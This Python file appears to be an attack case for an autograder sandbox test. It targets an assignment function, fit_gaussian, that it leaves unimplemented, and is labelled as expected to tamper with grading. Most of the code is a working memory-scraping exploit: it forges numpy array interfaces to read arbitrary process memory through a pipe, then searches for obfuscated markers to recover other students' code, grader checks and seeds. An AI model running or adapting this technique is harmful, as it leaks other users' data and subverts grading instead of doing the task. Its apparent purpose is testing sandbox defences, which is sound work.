"""attack: reads all memory near its own objects through numpy's __array_interface__ (holes are found by EFAULT) and looks for other students' code, jobs, file names, checks and seeds
cell: fit_gaussian
assignment: 03_gaussian_latent
others: solved
expect: tampered
points: 5
keeps: 5
"""
import os, re, sys
import numpy as np
import torch

R, W = os.pipe()


class At:
    def __init__(self, address, size):
        self.__array_interface__ = {"data": (address, True), "shape": (size,), "typestr": "|u1", "version": 3}


def page(address, size=4096):
    try:
        n = os.write(W, np.asarray(At(address, size)))
    except OSError:
        return None
    return os.read(R, n)


def scan(start, span):
    out, run, begin = [], [], start
    for a in range(start, start + span, 65536):
        b = page(a, 65536)
        if b is None:
            b = b"".join(page(a + k, 4096) or b"" for k in range(0, 65536, 4096))
        run.append(b)
    return b"".join(run)


seen = set()
found = {}
words = [w[::-1].encode() for w in ("ruobhgien-DETNALP", "/dettimbus", "/dedarg", "{ = STRAP", "sward_thgir", "(kcehc fed", "(egduj fed", "\"di\"{", "fb03_wohs", "rekram_mitciv")]
anchors = [id(object()), id(os), id(torch), id("x" * 5000), id(bytearray(300000)), np.zeros(1 << 20).ctypes.data if False else np.zeros(1 << 20).__array_interface__["data"][0], torch.zeros(10).data_ptr(), id(sys.modules), id(re.compile("abc+")), id(type("T", (), {})), np.zeros(4).__array_interface__["data"][0]]
total = 0
for a in sorted(anchors):
    start = (a - (32 << 20)) & ~0xFFFF
    if any(abs(start - s) < (16 << 20) for s in seen):
        continue
    seen.add(start)
    b = scan(start, 96 << 20)
    total += len(b)
    for w in words:
        for m in list(re.finditer(re.escape(w), b))[:3]:
            found.setdefault(w, []).append(re.sub(rb"[^ -~]+", b"~", b[max(0, m.start() - 60):m.end() + 100]))
print("scanned", total >> 20, "MB in", len(seen), "places")
for w, hits in found.items():
    for h in hits[:2]: print(w, len(hits), h)


def fit_gaussian(z):
    raise NotImplementedError
